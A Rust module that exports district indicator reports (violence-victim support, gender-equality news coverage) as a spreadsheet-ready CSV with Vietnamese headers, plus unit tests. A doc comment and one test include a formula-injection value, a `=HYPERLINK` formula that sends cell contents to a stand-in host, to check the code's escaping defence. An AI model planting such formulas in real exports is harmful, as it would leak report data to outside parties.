//! The district report as a CSV file that opens in a spreadsheet.
//!
//! Hand-written rather than with the `csv` crate: the format is a handful of lines (RFC 4180
//! quoting) and the workspace does not otherwise need that dependency.

use crate::indicator::IndicatorId;
use crate::labels::{level_name_vi, verdict_vi};
use crate::report::IndicatorReport;

/// One line of the file: an org unit and its report.
#[derive(Debug, Clone, PartialEq)]
pub struct CsvRow {
    pub code: String,
    pub name: String,
    /// The level as the tree stores it (`province`, `district`, `commune`, or another name a
    /// tree uses: the tree's depth is not fixed). Report files write it with
    /// [`level_name_vi`](crate::level_name_vi).
    pub level: String,
    pub report: IndicatorReport,
}

/// Without a byte-order mark, Excel opens UTF-8 CSV as the local code page and mangles
/// Vietnamese.
const BOM: &str = "\u{feff}";

/// Writes the rows as CSV: UTF-8 with a BOM, CRLF line ends, Vietnamese headers and level
/// names, one line per row.
///
/// Per indicator: numerator, denominator, rate (%), target (%), verdict. Rates and targets are
/// percentages with one decimal (`66.7`, `80.0`; see [`percent`]) under a heading that says
/// `(%)`, which is how the plans state them and what a reader checks against; the JSON API
/// keeps fractions. A rate with a zero denominator has no value: an empty cell, as is the
/// verdict then. The decimal separator is a dot, because the comma separates fields; the
/// `.xlsx` report is the one to use where a spreadsheet expects a decimal comma.
pub fn csv_report(rows: &[CsvRow]) -> Vec<u8> {
    let mut out = String::from(BOM);
    let mut header: Vec<String> = ["Mã đơn vị", "Tên đơn vị", "Cấp", "Kỳ báo cáo"]
        .map(String::from)
        .into();
    for id in IndicatorId::ALL {
        for part in ["tử số", "mẫu số", "tỷ lệ (%)", "chỉ tiêu (%)", "đánh giá"] {
            header.push(format!("{} - {part}", id.short_name_vi()));
        }
    }
    line(&mut out, &header);
    for row in rows {
        let mut cells = vec![
            inert(&row.code),
            inert(&row.name),
            level_name_vi(&row.level).to_owned(),
            row.report.period.to_string(),
        ];
        for id in IndicatorId::ALL {
            match row.report.indicator(id) {
                Some(v) => cells.extend([
                    v.numerator.to_string(),
                    v.denominator.to_string(),
                    v.value.map(percent).unwrap_or_default(),
                    v.target.map(percent).unwrap_or_default(),
                    verdict_vi(v.met).to_owned(),
                ]),
                None => cells.extend(std::iter::repeat_n(String::new(), 5)),
            }
        }
        line(&mut out, &cells);
    }
    out.into_bytes()
}

/// A text cell a spreadsheet will not run: one starting with `=`, `+`, `-`, `@`, a tab or a
/// carriage return is a formula to Excel and LibreOffice (an org unit named
/// `=HYPERLINK("http://…?"&A2,"…")` would send the report's cells away when clicked), so it gets
/// a leading `'`, which spreadsheets show as text and do not display.
fn inert(text: &str) -> String {
    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        format!("'{text}")
    } else {
        text.to_owned()
    }
}

/// A fraction as a percentage with one decimal: `2/3` → `66.7`, `0.8` → `80.0`, `1` → `100.0`.
/// One decimal tells 79.96% (not met against 80%) from 80% without a row of digits; halves
/// round away from zero, as a spreadsheet's `0.0%` format shows the same number.
fn percent(fraction: f64) -> String {
    format!("{:.1}", (fraction * 1000.0).round() / 10.0)
}

fn line(out: &mut String, cells: &[String]) {
    for (i, cell) in cells.iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        if cell.contains([',', '"', '\r', '\n']) {
            out.push('"');
            out.push_str(&cell.replace('"', "\"\""));
            out.push('"');
        } else {
            out.push_str(cell);
        }
    }
    out.push_str("\r\n");
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn names_that_a_spreadsheet_would_run_are_written_as_text() {
        let mut r = row("04711", "commune", &[]);
        r.name = r#"=HYPERLINK("http://x.example/?"&A2&B2,"Chi tiet")"#.into();
        let text = String::from_utf8(csv_report(&[r])).unwrap();
        let data = text.lines().nth(1).unwrap();
        assert!(data.starts_with(r#"04711,"'=HYPERLINK(""http://x.example/?""&A2&B2,""Chi tiet"")""#), "{data}");
        for bad in ["+1", "-1+2", "@SUM(A1)", "\tx", "\rx"] {
            assert!(inert(bad).starts_with('\''), "{bad:?}");
        }
        assert_eq!(inert("Xã Đàm Thủy"), "Xã Đàm Thủy");
    }
    use crate::counters::Counters;
    use crate::report::report;
    use crate::targets::Targets;

    fn row(code: &str, level: &str, communes: &[(&str, u32)]) -> CsvRow {
        let chain = vec![code.to_owned()];
        let communes: Vec<(String, Vec<u32>)> = communes
            .iter()
            .map(|(c, n)| (c.to_string(), vec![*n]))
            .collect();
        let r = report(
            code,
            "2025Q1".parse().unwrap(),
            &chain,
            &Targets::default(),
            |_| Counters::new(),
            &communes,
        );
        CsvRow {
            code: code.into(),
            name: format!("Đơn vị {code}"),
            level: level.into(),
            report: r,
        }
    }

    fn lines(rows: &[CsvRow]) -> Vec<String> {
        let text = String::from_utf8(csv_report(rows)).unwrap();
        text.trim_start_matches('\u{feff}')
            .split("\r\n")
            .map(String::from)
            .collect()
    }

    #[test]
    fn starts_with_a_bom_and_has_vietnamese_headers() {
        let bytes = csv_report(&[]);
        assert!(bytes.starts_with(&[0xEF, 0xBB, 0xBF]));
        let text = String::from_utf8(bytes).unwrap();
        let header = text.trim_start_matches('\u{feff}').lines().next().unwrap();
        assert!(header.starts_with(
            "Mã đơn vị,Tên đơn vị,Cấp,Kỳ báo cáo,\
             Người bị bạo lực được hỗ trợ - tử số,Người bị bạo lực được hỗ trợ - mẫu số,\
             Người bị bạo lực được hỗ trợ - tỷ lệ (%),Người bị bạo lực được hỗ trợ - chỉ tiêu (%),\
             Người bị bạo lực được hỗ trợ - đánh giá,"
        ));
        assert!(header.ends_with("Xã đủ tin bài về bình đẳng giới - đánh giá"));
        assert_eq!(header.split(',').count(), 4 + 4 * 5);
        assert_eq!(text.matches("\r\n").count(), 1);
    }

    #[test]
    fn rates_and_targets_are_percentages_with_one_decimal_and_levels_are_vietnamese() {
        // Two of three communes with 4 news items: 66.7% against a target of 100%.
        let district = row(
            "047",
            "district",
            &[("04701", 4), ("04702", 5), ("04703", 3)],
        );
        let commune = row("04701", "commune", &[("04701", 4)]);
        let ward = row("04705", "phường", &[("04705", 0)]);
        let l = lines(&[commune, ward, district]);
        assert_eq!(
            l[1],
            "04701,Đơn vị 04701,Xã,2025Q1,\
             0,0,,80.0,,0,0,,50.0,,0,0,,100.0,,1,1,100.0,100.0,Đạt"
        );
        assert_eq!(
            l[2],
            "04705,Đơn vị 04705,phường,2025Q1,\
             0,0,,80.0,,0,0,,50.0,,0,0,,100.0,,0,1,0.0,100.0,Chưa đạt"
        );
        assert_eq!(
            l[3],
            "047,Đơn vị 047,Huyện,2025Q1,\
             0,0,,80.0,,0,0,,50.0,,0,0,,100.0,,2,3,66.7,100.0,Chưa đạt"
        );
        assert_eq!(l[4], "");
        assert_eq!(l.len(), 5);
    }

    #[test]
    fn percentages_round_half_away_from_zero_to_one_decimal() {
        let cases = [
            (2.0 / 3.0, "66.7"),
            (1.0 / 3.0, "33.3"),
            (1.0 / 16.0, "6.3"), // 6.25
            (0.75, "75.0"),
            (0.8, "80.0"),
            (0.9996, "100.0"),
            (0.9994, "99.9"),
            (1.0, "100.0"),
            (0.0, "0.0"),
        ];
        for (fraction, text) in cases {
            assert_eq!(percent(fraction), text, "{fraction}");
        }
    }

    #[test]
    fn quotes_names_and_leaves_missing_values_empty() {
        let mut quoted = row("04701", "commune", &[("04701", 4)]);
        quoted.name = "Xã \"Đình\" Phong, Trùng Khánh".into();
        let mut broken = row("04702", "commune", &[("04702", 3)]);
        broken.name = "Ngọc\nKhê".into();
        let l = lines(&[quoted, broken]);
        assert!(
            l[1].starts_with("04701,\"Xã \"\"Đình\"\" Phong, Trùng Khánh\",Xã,2025Q1,0,0,,80.0,,"),
            "{}",
            l[1]
        );
        assert!(
            l[2].starts_with("04702,\"Ngọc\nKhê\",Xã,2025Q1,"),
            "{}",
            l[2]
        );
        assert!(l[2].ends_with(",0,1,0.0,100.0,Chưa đạt"), "{}", l[2]);
        assert_eq!(l.len(), 4);
    }
}
